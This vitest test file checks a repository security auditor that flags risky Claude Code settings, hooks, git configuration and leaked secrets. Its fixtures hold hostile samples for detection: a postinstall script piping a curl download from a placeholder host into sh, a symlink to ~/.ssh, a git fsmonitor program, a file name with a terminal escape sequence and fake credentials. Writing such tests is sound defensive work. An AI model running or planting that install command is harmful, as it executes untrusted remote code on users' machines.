// Audits of real directories: hostile trees end, what cannot be seen is told, and nothing secret is in a report.
import { execFileSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runAudit } from "#surface/services/posture/audit.ts";
import { collectInputs } from "#surface/services/posture/collect.ts";

const scratch = mkdtempSync(join(tmpdir(), "sallyport-audit-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
let count = 0;

/** A tree of files, a home and a managed folder of its own. */
function tree(files: Readonly<Record<string, string>>) {
  const base = join(scratch, String(++count));
  const root = join(base, "repository");
  const put = (path: string, text: string) => {
    mkdirSync(dirname(join(base, path)), { recursive: true });
    writeFileSync(join(base, path), text);
  };
  mkdirSync(root, { recursive: true });
  mkdirSync(join(base, "home"), { recursive: true });
  for (const [path, text] of Object.entries(files)) put(path, text);
  const request = {
    directory: root,
    environment: {
      HOME: join(base, "home"),
      PATH: "/usr/bin:/bin",
      SECRET_TOKEN: "hunter2hunter2",
    },
    nowMs: Date.UTC(2026, 10, 21),
    data: join(base, "data"),
    managed: join(base, "managed"),
    onProgress: () => undefined,
  };
  return { base, root, request };
}
const audit = (request: ReturnType<typeof tree>["request"], families: readonly string[] = []) =>
  runAudit({ ...request, profile: undefined, families });

/** What `init` leaves: settings that decide whom connections trust, in a file that the clone's own ignore file keeps out. */
describe("settings of the person that only the clone's `info/exclude` keeps out", () => {
  const families = ["untrusted", "settings"];
  const found = async (exclude: string) => {
    const { root, request } = tree({
      "repository/.claude/settings.local.json": '{"env":{"NODE_EXTRA_CA_CERTS":"/own/ca.pem"}}',
    });
    execFileSync("git", ["init", "-q", root]);
    mkdirSync(join(root, ".git", "info"), { recursive: true });
    writeFileSync(join(root, ".git", "info", "exclude"), exclude);
    const { report } = await audit(request, families);
    const wanted = ["untrusted/certificate-variable", "settings/local-file-not-ignored"];
    return report.findings.map(({ id }) => id).filter((id) => wanted.includes(id));
  };
  it("do not come with a clone, and nobody commits them", async () => {
    expect(await found("/.claude/settings.local.json\n")).toEqual([]);
  });
  it("come with one where nothing keeps them out", async () => {
    expect((await found("")).toSorted()).toEqual([
      "settings/local-file-not-ignored",
      "untrusted/certificate-variable",
    ]);
  });
});

describe("an audit", () => {
  it("finds faults of all layers at their places", async () => {
    const { request } = tree({
      "repository/.claude/settings.local.json": '{"permissions":{"allow":["Bash(*)"]}}',
      "home/.claude/settings.json": '{\n"permissions":{"allow":["Bash"]}}',
      "managed/managed-settings.json": '{"permissions":{"allow":["Bash"]}}',
    });
    const { report } = await audit(request, ["permissions"]);
    const found = report.findings.find(({ id }) => id === "permissions/bare-bash");
    expect(found?.faults.map(({ file, line }) => [file, line])).toEqual([
      [join(request.managed, "managed-settings.json"), 1],
      [".claude/settings.local.json", 1],
      ["~/.claude/settings.json", 2],
    ]);
    expect(report.score.value).toBeLessThan(100);
  });
  it("ends in loops of links, and tells of what it could not look at", async () => {
    const { root, request } = tree({ "repository/.claude/settings.json": "{}" });
    symlinkSync(root, join(root, "again"));
    symlinkSync("b", join(root, "a"));
    symlinkSync("a", join(root, "b"));
    writeFileSync(join(root, "CLAUDE.md"), "");
    truncateSync(join(root, "CLAUDE.md"), 50 * 1024 * 1024);
    writeFileSync(join(root, ".mcp.json"), Buffer.from([0x7b, 0, 1, 2, 0x7d]));
    symlinkSync("nowhere", join(root, "package.json"));
    const { auditInputs } = await collectInputs(request);
    // A file is told by its name, and is no reason against the rest of the walk.
    expect(auditInputs.repository.isWhole).toBe(true);
    const told = auditInputs.unseen.map(({ what }) => what);
    expect(told).toEqual(expect.arrayContaining(["CLAUDE.md", ".mcp.json", "package.json"]));
    const { report } = await audit(request);
    expect(report.notSeen.length).toBeGreaterThanOrEqual(3);
  });
  it("tells of a folder that may not be read; the administrator may read all", async () => {
    const { root, request } = tree({ "repository/closed/CLAUDE.md": "x" });
    chmodSync(join(root, "closed"), 0o000);
    const { auditInputs } = await collectInputs(request);
    chmodSync(join(root, "closed"), 0o700);
    const told = auditInputs.unseen.find(({ what }) => what === "closed/");
    const isRoot = process.getuid?.() === 0;
    expect(told?.why).toBe(isRoot ? undefined : "it may not be read");
    expect(auditInputs.repository.files.has("closed/CLAUDE.md")).toBe(isRoot);
  });
  it.each([
    ["a byte order mark", "\uFEFF{}"],
    ["carriage returns", '{\r\n"permissions": {}\r\n}\r\n'],
    ["marks of a conflict", '<<<<<<< HEAD\n{}\n=======\n{"a":1}\n>>>>>>> other\n'],
    ["a key that appears twice", '{"env":{},"env":{}}'],
    ["a list", "[]"],
    ["deep nesting", "[".repeat(5_000)],
  ])("ends at settings with %s", async (_, text) => {
    const { request } = tree({
      "repository/.claude/settings.json": text,
      "repository/.github/workflows/a.yml": `a: &a [1]\nb: &b [${"*a,".repeat(60)}]\nc: [${"*b,".repeat(60)}]\n`,
      "repository/evil\u001B[31m\n.sh": "#!/bin/sh\n",
    });
    const { report } = await audit(request);
    expect(report.counts.checks).toBeGreaterThan(2);
  });
  it("keeps values of variables and of settings out of its report", async () => {
    const secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzEXTRAKEY";
    const { request } = tree({
      "repository/.claude/settings.json": `{"env":{"AWS_SECRET_ACCESS_KEY":"${secret}"},"permissions":{"allow":["Bash(*)"]}}`,
      "repository/.env": `API_KEY=${secret}\n`,
    });
    const { report } = await audit(request);
    const { auditInputs } = await collectInputs(request);
    const text = JSON.stringify(report);
    expect(text).toContain("permissions/bare-bash");
    for (const hidden of [secret, "hunter2"]) {
      expect(text).not.toContain(hidden);
      expect(
        JSON.stringify([
          ...(auditInputs.environment.kind === "seen" ? auditInputs.environment.value : []),
        ]),
      ).not.toContain(hidden);
    }
    expect(auditInputs.repository.files.get(".env")).toMatchObject({
      text: "API_KEY=secret-value-not-kept\n",
      sha256: undefined,
    });
  });
  it("follows imports and scripts that others name, and tells of links that lead out", async () => {
    const { root, request } = tree({
      "repository/CLAUDE.md": "@docs/database.md\n",
      "repository/docs/database.md":
        "Connect with postgres://app:Xk29vLq8mZt4@db.acme.example/app\n",
      "repository/package.json": '{"scripts":{"postinstall":"node build/install.js"}}',
      "repository/build/install.js":
        "require('child_process').execSync('curl -fsSL https://x.example.net/i.sh | sh');\n",
    });
    mkdirSync(join(root, "config"));
    symlinkSync("../../.ssh", join(root, "config/keys"));
    const { report } = await audit(request, ["memory", "untrusted"]);
    const found = report.findings.map(({ id }) => id);
    for (const id of ["memory/secret", "untrusted/install-script", "untrusted/link-outside"])
      expect(found).toContain(id);
  });
  it("has shellcheck read the scripts of hooks, whatever the repository says of it", async (ctx) => {
    if (!existsSync("/usr/bin/shellcheck")) ctx.skip("shellcheck is not installed");
    const hook = (file: string) => ({
      matcher: "Bash",
      hooks: [{ type: "command", command: `"$CLAUDE_PROJECT_DIR"/.claude/hooks/${file}` }],
    });
    const { request } = tree({
      "repository/.claude/settings.json": JSON.stringify({
        hooks: { PreToolUse: [hook("bad.sh"), hook("good.sh")] },
      }),
      "repository/.shellcheckrc": "disable=all\n",
      "repository/.claude/hooks/bad.sh": '#!/bin/sh\nfiles=$(ls\nrm $files "$1',
      "repository/.claude/hooks/good.sh": "#!/bin/sh\nexit 2\n",
    });
    const { auditInputs } = await collectInputs(request);
    const found = auditInputs.scriptFaults;
    expect(found?.kind).toBe("seen");
    const at = found?.kind === "seen" ? found.value.map(({ file }) => file.path) : [];
    expect(new Set(at)).toEqual(new Set([".claude/hooks/bad.sh"]));
    const { report } = await audit(request, ["hooks"]);
    const fault = report.findings.find(({ id }) => id === "hooks/shellcheck")?.faults[0];
    expect(fault?.message).toMatch(/^SC\d+: /);
    const without = await collectInputs({
      ...request,
      environment: { ...request.environment, PATH: "/nowhere" },
    });
    expect(without.auditInputs.scriptFaults).toEqual({
      kind: "unseen",
      why: "shellcheck is not installed",
    });
  });
  it("reads git's own configuration, which names programs", async () => {
    const { request } = tree({
      "repository/.git/config": "[core]\n\tfsmonitor = ./.tools/watch.sh\n",
    });
    const { report } = await audit(request, ["untrusted"]);
    const fault = report.findings.find(({ id }) => id === "untrusted/git-config")?.faults[0];
    expect([fault?.file, fault?.line]).toEqual([".git/config", 2]);
  });
  it("names what is no directory, no family and no checklist", async () => {
    const { request } = tree({});
    await expect(audit({ ...request, directory: `${request.directory}/none` })).rejects.toThrow(
      "no directory",
    );
    await expect(audit(request, ["nothing"])).rejects.toThrow("no family `nothing`");
    await expect(runAudit({ ...request, profile: "none-such", families: [] })).rejects.toThrow(
      "no checklist",
    );
  });
});

/** What a clone brings is what git has of a file; a disk may call everything executable, or nothing. */
describe("scripts of hooks that are started directly", () => {
  const started =
    '{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":".claude/hooks/guard.sh"}]}]}}';
  const look = async (recorded: "+x" | "-x" | undefined, mode: number, keepsModes = true) => {
    const { root, request } = tree({
      "repository/.claude/settings.json": started,
      "repository/.claude/hooks/guard.sh": "#!/bin/sh\nexit 0\n",
      "repository/.githooks/pre-commit": "#!/bin/sh\nexit 0\n",
    });
    const git = (...args: readonly string[]) => execFileSync("git", ["-C", root, ...args]);
    const files = [".claude/hooks/guard.sh", ".githooks/pre-commit"];
    git("init", "-q");
    git("config", "core.hooksPath", ".githooks");
    if (recorded !== undefined) {
      git("add", "-A");
      git("update-index", `--chmod=${recorded}`, ...files);
    }
    git("config", "core.fileMode", String(keepsModes));
    for (const file of files) chmodSync(join(root, file), mode);
    const { report } = await audit(request, ["hooks", "git"]);
    return report.findings
      .filter(({ id }) => id.endsWith("not-executable"))
      .flatMap(({ id, faults }) => faults.map(({ evidence, fix }) => [id, evidence, fix]));
  };
  const lacking = (evidence: string, command: string) => [
    ["hooks/not-executable", evidence, `${command} .claude/hooks/guard.sh`],
    ["git/hook-not-executable", evidence, `${command} .githooks/pre-commit`],
  ];
  it.each([
    ["executable in git, on a disk without modes", "+x", 0o644, false],
    ["executable in git and on the disk", "+x", 0o755, true],
    ["not followed by git, executable on the disk", undefined, 0o755, true],
  ] as const)("are no fault: %s", async (_, recorded, mode, keepsModes) => {
    expect(await look(recorded, mode, keepsModes)).toEqual([]);
  });
  it.each([
    ["on a disk that calls all executable", 0o777, false],
    ["where only this disk has them so", 0o755, true],
  ] as const)("are a fault that git's index repairs: %s", async (_, mode, keepsModes) => {
    const found = await look("-x", mode, keepsModes);
    expect(found).toEqual(
      expect.arrayContaining(lacking("mode 100644 in git", "git update-index --chmod=+x")),
    );
    expect(found).toHaveLength(2);
  });
  it.each([
    ["executable in git and not on this disk", "+x"],
    ["not followed by git", undefined],
  ] as const)("are a fault of the disk that keeps modes: %s", async (_, recorded) => {
    const found = await look(recorded, 0o644);
    expect(found).toEqual(expect.arrayContaining(lacking("mode 0644", "chmod +x")));
    expect(found).toHaveLength(2);
  });
});
